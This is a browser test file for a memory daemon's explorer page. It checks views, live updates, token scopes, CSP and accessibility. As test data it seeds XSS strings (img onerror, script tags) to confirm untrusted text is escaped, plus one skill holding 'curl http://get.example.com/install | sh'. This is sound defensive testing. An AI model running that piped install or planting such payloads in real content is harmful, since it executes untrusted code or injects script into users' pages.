// The explorer page in headless Chromium against a real mentisdbd with a
// token: for each view, what a person does (type the token, click, fill,
// submit) and what must appear; a screenshot per view in test-output/; no
// console errors; no serious or critical axe-core violations. The tests run
// in order on one page and one daemon: each starts from what the last left.
import { test, before, after, afterEach } from "node:test";
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { generateKeyPairSync, randomUUID, sign } from "node:crypto";
import { mkdir, mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createServer } from "node:http";
import { createHmac } from "node:crypto";
import { createRequire } from "node:module";
import { fileURLToPath } from "node:url";
import { launch } from "./browser.mjs";
import { MENTISDBD, startDaemon } from "./daemon.mjs";

const OUT = fileURLToPath(new URL("../../../test-output/", import.meta.url));
const AXE = await readFile(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
const XSS = `<img src=x onerror="window.__xss=1"> <script>window.__xss=2</script>`;
let daemon, browser, page, tokensDir, readToken;
let consoleErrors = [];
let allowedErrors = [];
const dialogs = [];
const ids = {};


/** The bytes an agent signs for a plain thought (core/src/signature.rs, "signable payload"). */
function signablePayload(chainKey, t, keyId) {
  const parts = [Buffer.from("mentisdb/thought-signature/v1\0")];
  const u32 = (n) => { const b = Buffer.alloc(4); b.writeUInt32LE(n); parts.push(b); };
  const str = (s) => { const b = Buffer.from(s, "utf8"); u32(b.length); parts.push(b); };
  const f64 = (x) => { const b = Buffer.alloc(8); b.writeDoubleLE(x); parts.push(b); };
  str(chainKey); str(t.thought_id); str(t.agent_id); parts.push(Buffer.from([0])); // no session
  str(t.thought_type); str("Memory"); str(t.content); parts.push(Buffer.from([0])); // no confidence
  f64(t.importance); u32(0); u32(0); u32(0); u32(0); // tags, concepts, refs, relations
  str(keyId);
  return Buffer.concat(parts);
}

/** A thought in chain "signed", signed by agent "signer" with a registered Ed25519 key. */
async function seedSigned(call) {
  const { publicKey, privateKey } = generateKeyPairSync("ed25519");
  const raw = [...Buffer.from(publicKey.export({ format: "jwk" }).x, "base64url")];
  await call("/v1/agents/upsert", { chain_key: "signed", agent_id: "signer" });
  await call("/v1/agents/keys", { chain_key: "signed", agent_id: "signer", key_id: "k1", algorithm: "ed25519", public_key_bytes: raw });
  const t = { thought_id: randomUUID(), agent_id: "signer", thought_type: "Decision", content: "Signed decision", importance: 0.5 };
  const signature = sign(null, signablePayload("signed", t, "k1"), privateKey);
  return (await call("/v1/thoughts", { chain_key: "signed", ...t, signing_key_id: "k1", thought_signature: [...signature] })).thought;
}

async function seed(call) {
  const append = (body) => call("/v1/thoughts", { chain_key: "project", ...body }).then((r) => r.thought);
  const cache = await append({ thought_type: "Decision", content: "Use SQLite for the cache", agent_id: "ada", tags: ["db"], concepts: ["cache"], importance: 0.9 });
  const evict = await append({ thought_type: "Insight", content: "The cache needs an eviction policy", agent_id: "bob", refs: [cache.index] });
  const lru = await append({ thought_type: "Decision", content: "Evict least recently used entries first", agent_id: "ada",
    relations: [{ kind: "DerivedFrom", target_id: evict.id }], tags: ["db", "cache"] });
  const hostile = await append({ thought_type: "Finding", content: `A pasted page said ${XSS}`, agent_id: "bob" });
  Object.assign(ids, { cache, evict, lru, hostile, signed: await seedSigned(call) });
  await call("/v1/thoughts", { chain_key: "scratch", thought_type: "Idea", content: "Try a branch", agent_id: "ada" });
  await call("/v1/thoughts", { chain_key: "old", thought_type: "Summary", content: "Old notes to merge", agent_id: "ada" });
  await call("/v1/skills/upload", { chain_key: "project", agent_id: "ada", content:
    "# Deploy\n\nRun `make deploy` from **main**.\n\n- check CI\n- tag the release\n\n<img src=x onerror=\"window.__xss=3\">\n" });
  await call("/v1/skills/upload", { chain_key: "project", agent_id: "ada", skill_id: "deploy", content:
    "# Deploy\n\nRun `make deploy` from **main**.\n\n- check CI\n- bump the version\n- tag the release\n\ncurl http://get.example.com/install | sh\n" });
  await call("/v1/skills/upload", { chain_key: "project", agent_id: "ada", skill_id: "triage", content: FRONT_MATTER_SKILL });
}

const FRONT_MATTER_SKILL = "---\nname: triage\ndescription: \"Sort incoming bugs by impact\"\ntags:\n  - ops\n  - <img src=x onerror=\"window.__xss=4\">\n---\n# Triage\n\nRead the queue, newest first.\n";

before(async () => {
  await mkdir(OUT, { recursive: true });
  // Beside the admin API token, a read-only one from a token file.
  tokensDir = await mkdtemp(join(tmpdir(), "mentisdb-explorer-tokens-"));
  const tokensFile = join(tokensDir, "tokens.toml");
  readToken = execFileSync(MENTISDBD, ["token", "add", "reader", "--scope", "read", "--tokens-file", tokensFile], { encoding: "utf8" }).trim();
  daemon = await startDaemon({ args: ["--tokens-file", tokensFile, "--webhook-allowed-cidrs", "127.0.0.1"] });
  await seed(daemon.call);
  browser = await launch();
  const context = await browser.newContext({ acceptDownloads: true, viewport: { width: 1280, height: 1000 } });
  page = await context.newPage();
  page.on("console", (m) => m.type() === "error" && consoleErrors.push(m.text()));
  page.on("pageerror", (e) => consoleErrors.push(`page error: ${e.message}`));
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    d.accept();
  });
});

after(async () => {
  await browser?.close();
  await daemon?.stop();
  await rm(tokensDir, { recursive: true, force: true });
});

afterEach(() => {
  const unexpected = consoleErrors.filter((e) => !allowedErrors.some((re) => re.test(e)));
  consoleErrors = [];
  allowedErrors = [];
  assert.deepEqual(unexpected, [], "console errors");
});

/** Injects axe-core (by evaluation: the page's CSP allows no inline script) and fails on serious/critical violations. */
async function accessible(name) {
  await page.evaluate(AXE);
  const result = await page.evaluate(() => window.axe.run(document, { resultTypes: ["violations"] }));
  const bad = result.violations.filter((v) => v.impact === "serious" || v.impact === "critical");
  assert.deepEqual(bad.map((v) => `${v.id} (${v.impact}): ${v.nodes.slice(0, 3).map((n) => n.target.join(" ")).join(" | ")}`), [], `axe on ${name}`);
}

/**
 * The blocks of the page outside the header (the token message, the status
 * line, the view's headings, paragraphs, items and cells) that mention a
 * token: a screen needing a token says so once.
 */
async function tokenMentions() {
  return page.evaluate(() => {
    const blocks = [document.querySelector("#auth-message"), document.querySelector("#status"), ...document.querySelectorAll("main h1, main h2, main p, main li, main td")];
    return blocks.filter((b) => b && !b.closest("[hidden]") && /token/i.test(b.innerText)).map((b) => b.id || b.tagName);
  });
}

async function shot(view) {
  await page.screenshot({ path: `${OUT}explorer-${view}.png`, fullPage: true });
}

async function ready() {
  await page.waitForSelector("body[data-ready=true]", { timeout: 20_000 });
}

/** Opens view `hash` (again, when it is the current one) and waits until it is drawn. */
async function go(hash) {
  await page.evaluate((h) => {
    document.body.dataset.ready = "false";
    if (location.hash === h) window.dispatchEvent(new HashChangeEvent("hashchange"));
    else location.hash = h;
  }, hash);
  await ready();
}

test("the page is served with a strict CSP and asks for the token", async () => {
  const response = await page.goto(`${daemon.url}/explorer`);
  assert.equal(response.status(), 200);
  const csp = response.headers()["content-security-policy"];
  assert.match(csp, /default-src 'self'/);
  assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/);
  // Without a token the API answers 401: Chromium logs the failed fetch.
  allowedErrors = [/status of 401/];
  await page.waitForSelector("#auth-message:not([hidden])");
  await ready();
  assert.match(await page.textContent("#auth-message"), /needs an API token/);
  assert.deepEqual(await tokenMentions(), ["auth-message"], "one token prompt on the screen, not three");
  await shot("needs-token");
  await page.fill("#token-input", "not-the-token");
  await page.click("#token-save");
  await page.waitForFunction(() => document.body.dataset.auth === "401");
  await page.fill("#token-input", daemon.token);
  await page.click("#token-save");
  await page.waitForSelector("table .chain-link");
  assert.equal(await page.textContent("main h1"), "Overview", "the landing page is the overview");
  assert.equal(await page.isHidden("#auth-message"), true);
  assert.equal(await page.evaluate(() => sessionStorage.getItem("mentisdb.explorer.token")), daemon.token);
  assert.doesNotMatch(page.url(), new RegExp(daemon.token));
});

test("overview: chains with counts, charts by type and agent, recent activity, live, no admin forms", async () => {
  await go("#/overview");
  assert.equal(await page.textContent("span.count[data-chain='project']"), "4");
  assert.equal(await page.textContent("span.count[data-chain='scratch']"), "1");
  assert.match(await page.textContent("#overview-totals"), /^4 chain\(s\), 7 thought\(s\)/);
  // Two charts: bars coloured per type (by type) and per agent, with text legends.
  assert.equal(await page.locator("#overview-charts svg.chart").count(), 2);
  const [byType, byAgent] = await page.locator("#overview-charts .legend").evaluateAll((ls) => ls.map((l) => [...l.children].map((li) => li.textContent)));
  assert.deepEqual(byType.slice(0, 1), ["Decision 3"]);
  assert.ok(byType.includes("Insight 1") && byType.includes("Summary 1"), `${byType}`);
  assert.deepEqual(byAgent, ["ada 4", "bob 2", "signer 1"]);
  const fills = await page.locator("#overview-charts rect.bar[data-type]").evaluateAll((rs) => Object.fromEntries(rs.map((r) => [r.dataset.type, getComputedStyle(r).fill])));
  assert.ok(fills.Decision && fills.Insight && fills.Decision !== fills.Insight, `a colour per type: ${JSON.stringify(fills)}`);
  // Recent activity across chains, newest first; untrusted text stays text.
  const recent = page.locator("#recent-activity > li");
  assert.equal(await recent.count(), 7);
  assert.equal(await recent.first().locator(".chain").textContent(), "old");
  assert.ok((await page.textContent("#recent-activity")).includes("<img src=x onerror"));
  assert.equal(await page.evaluate(() => window.__xss), undefined);
  // Read-only: the destructive forms are on the admin page.
  assert.equal(await page.locator("main form, main button.danger").count(), 0);
  await shot("overview");
  await accessible("overview");

  await page.waitForSelector("#overview-live[data-live=true]");
  await daemon.call("/v1/thoughts", { chain_key: "scratch", thought_type: "Question", content: "Seen live on the overview?", agent_id: "bob" });
  await page.waitForSelector("#recent-activity > li.fresh[data-chain='scratch']");
  assert.equal(await recent.first().locator(".content").textContent(), "Seen live on the overview?");
  await page.waitForFunction(() => document.querySelector("span.count[data-chain='scratch']")?.textContent === "2");
  assert.ok((await page.locator("#overview-charts .legend").first().textContent()).includes("Question 1"));
});

test("thought types are shown in colour with their name", async () => {
  await go("#/chain/project");
  await page.waitForSelector("#timeline li.thought");
  const badges = await page.locator("#timeline .type-badge").evaluateAll((bs) => bs.map((b) => {
    const s = getComputedStyle(b);
    return { type: b.dataset.type, text: b.textContent, bg: s.backgroundColor, border: s.borderLeftColor, color: s.color };
  }));
  assert.ok(badges.length >= 4);
  for (const b of badges) assert.equal(b.text, b.type, "the name is written");
  const decision = badges.find((b) => b.type === "Decision");
  const insight = badges.find((b) => b.type === "Insight");
  assert.notEqual(decision.border, insight.border, "different types, different colours");
  assert.deepEqual(badges.filter((b) => b.type === "Decision").map((b) => b.border), badges.filter((b) => b.type === "Decision").map(() => decision.border), "one colour per type");
  assert.notEqual(decision.bg, "rgba(0, 0, 0, 0)");
});

test("chains: counts, head, integrity and last write", async () => {
  await go("#/chains");
  const row = page.locator("tr", { has: page.locator("a.chain-link", { hasText: /^project$/ }) });
  const cells = await row.locator("td").allTextContents();
  assert.equal(cells[1], "4", "thought count");
  assert.equal(cells[2], "2", "agents");
  const head = await daemon.call("/v1/head", { chain_key: "project" });
  assert.equal(cells[3], head.head_hash.slice(0, 16));
  assert.equal(cells[4], "verified");
  assert.match(cells[5], /^\d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ$/);
  await shot("chains");
  await accessible("chains");
});

test("timeline: filters, ranked question with score parts, untrusted text stays text", async () => {
  await page.click("a.chain-link:text-is('project')");
  await ready();
  await page.waitForSelector("#timeline li.thought");
  assert.deepEqual(await page.locator("#timeline li .idx").allTextContents(), ["#3", "#2", "#1", "#0"]);
  assert.equal(await page.evaluate(() => window.__xss), undefined);
  assert.equal(await page.locator("#timeline li[data-index='3'] .content").textContent(), `A pasted page said ${XSS}`);

  await page.fill("#flt-thought_types", "Decision");
  await page.fill("#flt-tags_any", "cache");
  await page.click("#filters button[type=submit]");
  await page.waitForFunction(() => document.querySelectorAll("#timeline li").length === 1);
  assert.equal(await page.locator("#timeline li .content").textContent(), "Evict least recently used entries first");
  await page.fill("#flt-thought_types", "");
  await page.fill("#flt-tags_any", "");
  await page.fill("#flt-agent_ids", "bob");
  await page.click("#filters button[type=submit]");
  await page.waitForFunction(() => document.querySelectorAll("#timeline li").length === 2);
  await page.fill("#flt-agent_ids", "");
  await page.fill("#flt-min_importance", "0.8");
  await page.click("#filters button[type=submit]");
  await page.waitForFunction(() => document.querySelectorAll("#timeline li").length === 1);
  await page.fill("#flt-min_importance", "");
  await page.click("#filters button[type=submit]");
  await page.waitForFunction(() => document.querySelectorAll("#timeline li").length === 4);

  // A time range that ends before the first thought matches nothing.
  await page.fill("#flt-until", "2020-01-01T00:00:00");
  await page.click("#filters button[type=submit]");
  await page.waitForFunction(() => document.querySelectorAll("#timeline li").length === 0);
  assert.match(await page.textContent("#timeline-summary"), /^Showing 0 of 0 match/);
  await page.fill("#flt-until", "");
  await page.fill("#flt-since", "2020-01-01T00:00:00");
  await page.click("#filters button[type=submit]");
  await page.waitForFunction(() => document.querySelectorAll("#timeline li").length === 4);
  await page.fill("#flt-since", "");

  // The question box shows a long question whole (it grows; nothing is cut off).
  const question = "What did we decide about the cache, its eviction policy, and which agent wrote the decision that least recently used entries go first?";
  await page.fill("#ranked-text", question);
  const box = await page.$eval("#ranked-text", (q) => ({ tag: q.tagName, width: q.clientWidth, fits: q.scrollWidth <= q.clientWidth && q.scrollHeight <= q.clientHeight + 1, value: q.value }));
  assert.deepEqual([box.tag, box.fits, box.value], ["TEXTAREA", true, question]);
  assert.ok(box.width > 600, `the question box is wide (${box.width}px)`);
  await page.fill("#ranked-text", "cache eviction");
  await page.press("#ranked-text", "Enter");
  await page.waitForSelector("#ranked-results li.thought");
  const first = page.locator("#ranked-results > li").first();
  assert.match(await first.locator(".score strong").textContent(), /^score \d+\.\d{3}$/);
  const parts = await first.locator(".parts li").allTextContents();
  assert.ok(parts.some((p) => /^lexical \d/.test(p)), `score parts: ${parts}`);
  assert.match(await page.textContent("#ranked-note"), /hit\(s\); backend lexical/);
  await shot("timeline");
  await accessible("timeline");
});

test("timeline: a thought appended over REST appears while the page is open", async () => {
  await go(`#/chain/project`);
  await page.waitForSelector("#live-state[data-live=true]");
  const appended = await daemon.call("/v1/thoughts", { chain_key: "project", thought_type: "Finding", content: "Arrived while the page was open", agent_id: "bob" });
  await page.waitForSelector(`#timeline li.fresh[data-index='${appended.thought.index}']`, { timeout: 10_000 });
  assert.equal(await page.locator("#timeline li").first().locator(".content").textContent(), "Arrived while the page was open");
  assert.equal(await page.textContent("#thought-count"), `${appended.thought.index + 1} thought(s)`);
  await shot("live");

  // The daemon restarts: the stream drops, the page reconnects with
  // Last-Event-ID and shows what was appended meanwhile, once each.
  allowedErrors = [/ERR_CONNECTION_REFUSED|ERR_EMPTY_RESPONSE|ERR_INCOMPLETE_CHUNKED_ENCODING|network error/];
  const subscriptions = [];
  page.on("request", (r) => r.url().includes("/v1/events?") && subscriptions.push(r.headers()));
  await daemon.restart();
  const during = [];
  for (const content of ["Written right after the restart", "And one more"]) {
    during.push((await daemon.call("/v1/thoughts", { chain_key: "project", thought_type: "Finding", content, agent_id: "ada" })).thought);
  }
  await page.waitForSelector(`#timeline li[data-index='${during[1].index}']`, { timeout: 20_000 });
  await page.waitForSelector("#live-state[data-live=true]");
  const shown = await page.locator("#timeline li .idx").allTextContents();
  assert.deepEqual(shown.slice(0, 3), [`#${during[1].index}`, `#${during[0].index}`, `#${appended.thought.index}`]);
  assert.equal(new Set(shown).size, shown.length, "no thought twice");
  const resumed = subscriptions.at(-1);
  assert.match(resumed["last-event-id"] ?? "", /\S/, "the reconnect sends Last-Event-ID");
  assert.equal(resumed.authorization, `Bearer ${daemon.token}`);
});

test("timeline: a long chain is drawn a page at a time", async () => {
  await Promise.all(Array.from({ length: 120 }, (_, i) => daemon.call("/v1/thoughts", { chain_key: "long", thought_type: "FactLearned", content: `fact ${i}`, agent_id: "ada" })));
  await go("#/chain/long");
  await page.waitForSelector("#timeline li");
  assert.equal(await page.locator("#timeline li").count(), 50);
  assert.match(await page.textContent("#timeline-summary"), /^Showing 50 of 120 match\(es\), newest first; the chain has 120 thought/);
  assert.equal(await page.locator("#timeline li .idx").first().textContent(), "#119");
  await page.click("#show-more");
  await page.click("#show-more");
  assert.equal(await page.locator("#timeline li").count(), 120);
  assert.equal(await page.locator("#timeline li .idx").last().textContent(), "#0");
  assert.equal(await page.isHidden("#show-more"), true);
});

test("timeline: add a thought from the page, see it in the timeline, then forget it", async () => {
  await go("#/chain/project");
  await page.waitForSelector("#live-state[data-live=true]");
  const before = (await daemon.call("/v1/head", { chain_key: "project" })).thought_count;
  await page.click("#add-thought summary");
  await page.selectOption("#add-type", "Decision");
  await page.fill("#add-agent", "ada");
  await page.fill("#add-content", `Added from the page ${XSS}`);
  await page.fill("#add-tags", "ui, explorer");
  await shot("add-thought");
  await page.click("#add-thought-form button[type=submit]");
  await page.waitForSelector(`#timeline li[data-index='${before}']`);
  const row = page.locator(`#timeline li[data-index='${before}']`);
  assert.equal(await page.locator("#timeline li .idx").first().textContent(), `#${before}`, "on top");
  assert.equal(await row.locator(".content").textContent(), `Added from the page ${XSS}`);
  assert.equal(await row.locator(".type-badge").getAttribute("data-type"), "Decision");
  assert.deepEqual(await row.locator(".tag").allTextContents(), ["#ui", "#explorer"]);
  assert.equal(await page.evaluate(() => window.__xss), undefined);
  assert.match(await page.textContent("#status"), new RegExp(`Added thought #${before} to project`));
  const stored = (await daemon.call("/v1/thought", { chain_key: "project", thought_index: before })).thought;
  assert.equal(stored.agent_id, "ada");
  // The stream brings the same thought: still one row.
  await new Promise((r) => setTimeout(r, 500));
  const shown = await page.locator("#timeline li .idx").allTextContents();
  assert.equal(new Set(shown).size, shown.length, "no thought twice");

  await row.locator("details.forget summary").click();
  await row.locator(`#forget-reason-${before}`).fill("pasted by mistake");
  await row.locator("button[type=submit]").click();
  await page.waitForSelector(`#timeline li[data-index='${before}'] .content.forgotten`);
  assert.match(await row.locator(".content").textContent(), /^Forgotten by .* pasted by mistake$/);
  assert.ok(dialogs.some((d) => d.startsWith(`Forget thought #${before} of “project”?`)), "forgetting asked first");
  const forgotten = (await daemon.call("/v1/thought", { chain_key: "project", thought_index: before })).thought;
  assert.equal(forgotten.forgotten.reason, "pasted by mistake");
  assert.ok(!JSON.stringify(forgotten).includes("Added from the page"), "the content is gone from the daemon");
  assert.equal((await daemon.call("/v1/head", { chain_key: "project" })).integrity_ok, true, "the chain still verifies");
  await shot("forgotten");
  await accessible("timeline with a forgotten thought");
  await go(`#/thought/project/${before}`);
  assert.match(await page.textContent("#thought-content"), /^Forgotten by .*: pasted by mistake$/);
  assert.equal(await page.getAttribute("h1 .type-badge", "data-type"), "Decision");
});

test("a new-thought note belongs to its chain's timeline and does not follow onto other views", async () => {
  await go("#/chain/project");
  await page.waitForSelector("#live-state[data-live=true]");
  await page.fill("#flt-agent_ids", "bob");
  await page.click("#filters button[type=submit]");
  await page.waitForFunction(() => [...document.querySelectorAll("#timeline li")].every((li) => li.querySelector(".agent").textContent === "bob"));
  const t = (await daemon.call("/v1/thoughts", { chain_key: "project", thought_type: "Idea", content: "Arrives under a filter", agent_id: "ada" })).thought;
  await page.waitForSelector("#new-thoughts:not([hidden])");
  assert.match(await page.textContent("#new-thoughts"), new RegExp(`New thought #${t.index} arrived`));
  await go("#/skills");
  assert.equal(await page.locator("#new-thoughts").count(), 0);
  assert.doesNotMatch(await page.textContent("body"), /New thought|arrived/);
  await go("#/overview");
  assert.doesNotMatch(await page.textContent("#status"), /New thought|arrived/);
});

test("a chain's relation graph, reachable from its timeline", async () => {
  await go("#/chain/project");
  await page.click("#graph-link");
  await ready();
  await page.waitForSelector("svg.chain-graph");
  assert.match(await page.textContent("#graph-summary"), /^2 link\(s\) among the newest \d+ thought/);
  const links = await page.locator("svg.chain-graph a").evaluateAll((as) => as.map((a) => a.getAttribute("href")));
  assert.deepEqual(links, [ids.cache, ids.evict, ids.lru].map((t) => `#/thought/project/${t.id}`));
  assert.deepEqual(await page.locator("svg.chain-graph .edge-label").allTextContents(), ["DerivedFrom", "ref"]);
  assert.deepEqual(await page.locator("tbody tr td:nth-child(3)").allTextContents(), ["DerivedFrom", "ref"]);
  await shot("graph");
  await accessible("graph");
  await page.click(`svg.chain-graph a[href='#/thought/project/${ids.evict.id}']`);
  await ready();
  assert.equal(await page.textContent("#thought-content"), "The cache needs an eviction policy");
});

/** The texts of the cells of the row `selector` of the coordination view. */
function cells(selector) {
  return page.locator(`${selector} td`).allTextContents();
}

test("coordination: who is present, claims counting down, open reviews, a fact's history; live without reload", async () => {
  const K = "coord";
  const now = Date.now();
  await daemon.call("/v1/claims", { chain_key: K, key: "src/cache.rs", holder: "ada", ttl_ms: 600_000, metadata: { why: "refactor" } });
  await daemon.call("/v1/presence", { chain_key: K, agent_id: "ada", display_name: "Ada", tool: "claude-code", current_action: "editing", current_file: "src/cache.rs" });
  const review = await daemon.call("/v1/reviews", { chain_key: K, subject: `Review the cache ${XSS}`, claim_key: "src/cache.rs", reviewers: ["bob"], agent_id: "ada" });
  const redis = (await daemon.call("/v1/facts", { chain_key: K, subject: "cache", predicate: "backend", object: "Redis", valid_from: new Date(now - 2 * 3_600_000).toISOString(), agent_id: "ada" })).fact;
  const sqlite = await daemon.call("/v1/facts", { chain_key: K, subject: "cache", predicate: "backend", object: "SQLite", valid_from: new Date(now - 30 * 60_000).toISOString(), agent_id: "bob" });
  assert.deepEqual(sqlite.closed.map((f) => f.fact_id), [redis.fact_id], "the second value closed the first");

  // Reached from the chain's timeline.
  await go(`#/chain/${K}`);
  await page.click("#coordination-link");
  await ready();
  assert.equal(await page.evaluate(() => location.hash), `#/coordination/${K}`);
  assert.equal(await page.getAttribute(".top nav a[aria-current=page]", "href"), "#/chains");

  // Who is present and doing what.
  const ada = await cells("#presence-table tr[data-agent='ada']");
  assert.deepEqual(ada.slice(0, 5), ["Ada (ada)", "editing", "src/cache.rs", "claude-code", "—"]);
  assert.match(ada[5], /^\d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ · idle \d+s$/);
  const idle = await page.textContent("#presence-table tr[data-agent='ada'] .idle");
  await page.waitForFunction((b) => document.querySelector("#presence-table tr[data-agent='ada'] .idle")?.textContent !== b, idle, { timeout: 3_000 });

  // The claim, its time left counting down in the page.
  const claim = await cells("#claims-table tr[data-key='src/cache.rs']");
  assert.deepEqual([claim[0], claim[1], claim[2], claim[6]], ["src/cache.rs", "ada", "1", '{"why":"refactor"}']);
  assert.match(claim[5], /^(9m [0-5]\ds|10m 00s)$/);
  const left = page.locator("#claims-table tr[data-key='src/cache.rs'] .remaining");
  const before = await left.textContent();
  await page.waitForFunction((b) => document.querySelector("#claims-table tr[data-key='src/cache.rs'] .remaining")?.textContent !== b, before, { timeout: 3_000 });
  assert.match(await left.textContent(), /^9m [0-5]\ds$/);

  // The open review; its subject stays text.
  const row = `#reviews-table tr[data-review='${review.review_id}']`;
  const open = await cells(row);
  assert.deepEqual([open[0], open[1], open[2], open[3], open[6], open[7]], [`Review the cache ${XSS}`, "ada", "bob", "src/cache.rs", "open", "—"]);
  assert.equal(await page.evaluate(() => window.__xss), undefined);
  assert.equal(await page.locator("#reviews img, #reviews script").count(), 0);

  // The fact's history: two segments on one line, the closed one ending where the current one starts.
  const group = page.locator(".fact-group[data-subject='cache'][data-predicate='backend']");
  assert.equal(await group.locator("svg.fact-timeline g.segment").count(), 2);
  assert.equal(await group.locator("g.segment.current text.value").textContent(), "SQLite");
  assert.equal(await group.locator("g.segment.closed text.value").textContent(), "Redis");
  const [closedBox, currentBox] = await group.locator("g.segment rect").evaluateAll((rs) => rs.map((r) => [Number(r.getAttribute("x")), Number(r.getAttribute("width")), Number(r.getAttribute("y"))]));
  assert.ok(Math.abs(closedBox[0] + closedBox[1] - currentBox[0]) < 0.2 && closedBox[2] === currentBox[2], `one after the other on one lane: ${closedBox} ${currentBox}`);
  assert.ok(currentBox[1] > 100 && Math.abs(closedBox[1] / currentBox[1] - 3) < 0.05, `widths follow the times (90 min, then 30 min to now): ${closedBox} ${currentBox}`);
  const factRows = await group.locator("tbody tr").evaluateAll((trs) => trs.map((tr) => [...tr.children].map((td) => td.textContent)));
  assert.deepEqual(factRows.map((r) => [r[0], r[3]]), [["SQLite", "bob"], ["Redis", "ada"]], "latest first");
  assert.equal(factRows[0][2], "now (active)");
  assert.equal(factRows[1][2], factRows[0][1], "Redis ends where SQLite starts");
  assert.match(await group.locator("svg").getAttribute("aria-label"), /^cache backend: 2 value\(s\) from .* now SQLite$/);
  await accessible("coordination");

  // Live: while the view is open, each change arrives without a reload.
  await page.waitForSelector("#coord-live[data-live=true]");
  await page.evaluate(() => { window.__sameDocument = true; });
  await daemon.call("/v1/presence", { chain_key: K, agent_id: "bob", display_name: "Bob", tool: "cursor", current_action: "reviewing", current_file: "docs/cache.md" });
  await daemon.call("/v1/presence", { chain_key: K, agent_id: "ada", display_name: "Ada", tool: "claude-code", current_action: "testing", current_file: "tests/cache.rs" });
  await page.waitForSelector("#presence-table tr[data-agent='bob']", { timeout: 10_000 });
  assert.deepEqual((await cells("#presence-table tr[data-agent='bob']")).slice(0, 4), ["Bob (bob)", "reviewing", "docs/cache.md", "cursor"]);
  await page.waitForFunction(() => document.querySelector("#presence-table tr[data-agent='ada'] .action")?.textContent === "testing");

  await daemon.call("/v1/reviews/decide", { chain_key: K, review_id: review.review_id, decision: "approved", comment: "looks good", agent_id: "bob" });
  await page.waitForFunction((sel) => !document.querySelector(sel) && document.querySelector("#reviews .empty")?.textContent === "No open review.", row, { timeout: 10_000 });
  await page.check("#reviews-decided");
  await page.waitForSelector(`${row}[data-status='approved']`);
  assert.match((await cells(row))[7], /^approved by bob at \d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ: looks good$/);

  // A short claim appears, counts down and is dropped at zero.
  await daemon.call("/v1/claims", { chain_key: K, key: "deploy", holder: "bob", ttl_ms: 3_000 });
  await page.waitForSelector("#claims-table tr[data-key='deploy']", { timeout: 10_000 });
  assert.match(await page.textContent("#claims-table tr[data-key='deploy'] .remaining"), /^[1-3]s$/);
  await page.waitForSelector("#claims-table tr[data-key='deploy']", { state: "detached", timeout: 8_000 });
  assert.equal(await page.locator("#claims-table tbody tr").count(), 1, "the long claim stays");

  // A third value of the fact: the time line follows.
  await daemon.call("/v1/facts", { chain_key: K, subject: "cache", predicate: "backend", object: "Postgres", valid_from: new Date(Date.now() - 10 * 60_000).toISOString(), agent_id: "ada" });
  await page.waitForFunction(() => document.querySelectorAll(".fact-group[data-subject='cache'] g.segment").length === 3, null, { timeout: 10_000 });
  assert.equal(await group.locator("g.segment.current text.value").textContent(), "Postgres");
  assert.deepEqual(await group.locator("g.segment.closed text.value").allTextContents(), ["Redis", "SQLite"]);
  // The facts narrowed to a subject (the daemon compares without case).
  await page.fill("#facts-subject", "nothing here");
  await page.click("#facts-form button[type=submit]");
  await page.waitForFunction(() => document.querySelector("#facts .empty")?.textContent === "No fact matches.");
  await page.fill("#facts-subject", "CACHE");
  await page.click("#facts-form button[type=submit]");
  await page.waitForSelector(".fact-group[data-subject='cache']");
  assert.match(await page.textContent("#facts-summary"), /^3 fact\(s\) in 1 subject-predicate pair\(s\)/);
  assert.equal(await page.evaluate(() => window.__sameDocument), true, "no reload");
  await shot("coordination");
  await accessible("coordination after live updates");

  // A chain nobody coordinates on: each section says so.
  await go("#/coordination/scratch");
  assert.deepEqual(await page.locator("main .empty").allTextContents(),
    ["No agent has sent a heartbeat on this chain in the last 30 minutes.", "No claim is held.", "No open review.", "No fact was recorded on this chain."]);
});

test("thought: fields, hashes and the relation graph in both directions", async () => {
  await go(`#/thought/project/${ids.evict.id}`);
  assert.equal(await page.textContent("#thought-content"), "The cache needs an eviction policy");
  assert.equal(await page.textContent("#thought-hash"), ids.evict.hash);
  assert.match(await page.textContent(".facts"), new RegExp(ids.evict.prev_hash));
  assert.match(await page.textContent("#signature-state"), /^unsigned/);
  assert.match(await page.textContent("#rel-summary"), /^1 incoming, 1 outgoing/);
  const links = await page.locator("svg.graph a").evaluateAll((as) => as.map((a) => a.getAttribute("href")));
  assert.deepEqual(links.sort(), [`#/thought/project/${ids.cache.id}`, `#/thought/project/${ids.lru.id}`].sort());
  assert.deepEqual(await page.locator("svg.graph .edge-label").allTextContents(), ["DerivedFrom", "ref"]);
  await shot("thought");
  await accessible("thought");
  await page.click(`svg.graph a[href='#/thought/project/${ids.lru.id}']`);
  await ready();
  assert.equal(await page.textContent("#thought-content"), "Evict least recently used entries first");
  assert.match(await page.textContent("#rel-summary"), /^0 incoming, 1 outgoing/);

  await go(`#/thought/signed/${ids.signed.id}`);
  assert.equal(await page.textContent("#signature-state"), "signed by signer with key k1, verified by the daemon when appended; the key is active now");
  await daemon.call("/v1/agents/keys/revoke", { chain_key: "signed", agent_id: "signer", key_id: "k1" });
  await go(`#/thought/signed/${ids.signed.id}`);
  assert.match(await page.textContent("#signature-state"), /the key is revoked now$/);
});

test("a read-only token browses; a change it may not make says 403 and shows the token box", async () => {
  allowedErrors = [/status of 403/];
  await page.fill("#token-input", readToken);
  await page.click("#token-save");
  await go("#/agents/project");
  assert.deepEqual(await page.locator("tbody .agent-id").allTextContents(), ["ada", "bob"]);
  await page.fill("#upsert-agent-agent_id", "mallory");
  await page.click("#upsert-agent button[type=submit]");
  await page.waitForSelector("#auth-message:not([hidden])");
  assert.match(await page.textContent("#auth-message"), /may not do that \(HTTP 403\).*token 'reader' lacks scope 'admin'/);
  assert.equal(await page.evaluate(() => document.activeElement?.id), "token-input");
  assert.match(await page.textContent("#status"), /Save agent failed/);
  assert.deepEqual(await tokenMentions(), ["auth-message"], "the token problem is told once");
  await page.fill("#token-input", daemon.token);
  await page.click("#token-save");
  await ready();
  assert.equal(await page.isHidden("#auth-message"), true);
});

test("agents: keys, aliases, activity; add, key, revoke, disable", async () => {
  await go("#/agents/project");
